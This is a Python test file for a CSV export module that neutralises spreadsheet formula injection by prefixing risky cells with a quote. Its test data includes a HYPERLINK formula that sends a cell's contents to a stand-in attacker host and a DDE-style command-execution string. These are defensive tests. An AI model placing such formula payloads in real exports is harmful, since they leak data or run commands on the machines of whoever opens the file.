"""CSV exports cannot smuggle a spreadsheet formula: text cells starting with = + - @ (or tab / carriage
return) get a leading quote, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from kansrijk.atlas.exports import CSV_COLUMNS as ATLAS_COLUMNS
from kansrijk.atlas.exports import csv_writer
from kansrijk.core.csv_safe import safe_cell, safe_row
from kansrijk.startfoto.exports import startfoto_to_csv, startfoto_to_dict
from tests.startfoto.test_export import sample_startfoto

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1;"klik")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+31 30 123", "'+31 30 123"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Coalitie Utrecht", "Coalitie Utrecht"),
        ("", ""),
        (-1.5, -1.5),
        (-3, -3),
        (Decimal("-2.25"), Decimal("-2.25")),
        ("-1.5", "-1.5"),
        ("-1,5", "-1,5"),
        (None, None),
        (True, True),
    ],
)
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


def test_safe_row_keeps_numbers_numeric() -> None:
    row = safe_row(["=1+1", -1.5, 0, "ok"])
    assert row == ["'=1+1", -1.5, 0, "ok"]
    assert isinstance(row[1], float)


@pytest.mark.parametrize("excel", [False, True])
def test_startfoto_csv_neutralises_a_formula_name(excel: bool) -> None:
    data = startfoto_to_dict(sample_startfoto())
    data["gemeente"]["naam"] = HYPERLINK
    data["indicatoren"][0]["waarde"] = -1.5
    text = startfoto_to_csv(data, excel=excel).removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";" if excel else ","))
    assert {r["gemeente_naam"] for r in rows} == {"'" + HYPERLINK}
    assert rows[0]["waarde"] == ("-1,5" if excel else "-1.5")


def test_atlas_csv_neutralises_a_formula_wijk_name() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerows([["GM0344", "WK034401", HYPERLINK, 10, -0.5, *[""] * (len(ATLAS_COLUMNS) - 5)]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == list(ATLAS_COLUMNS)
    assert rows[1][2] == "'" + HYPERLINK and rows[1][4] == "-0.5"
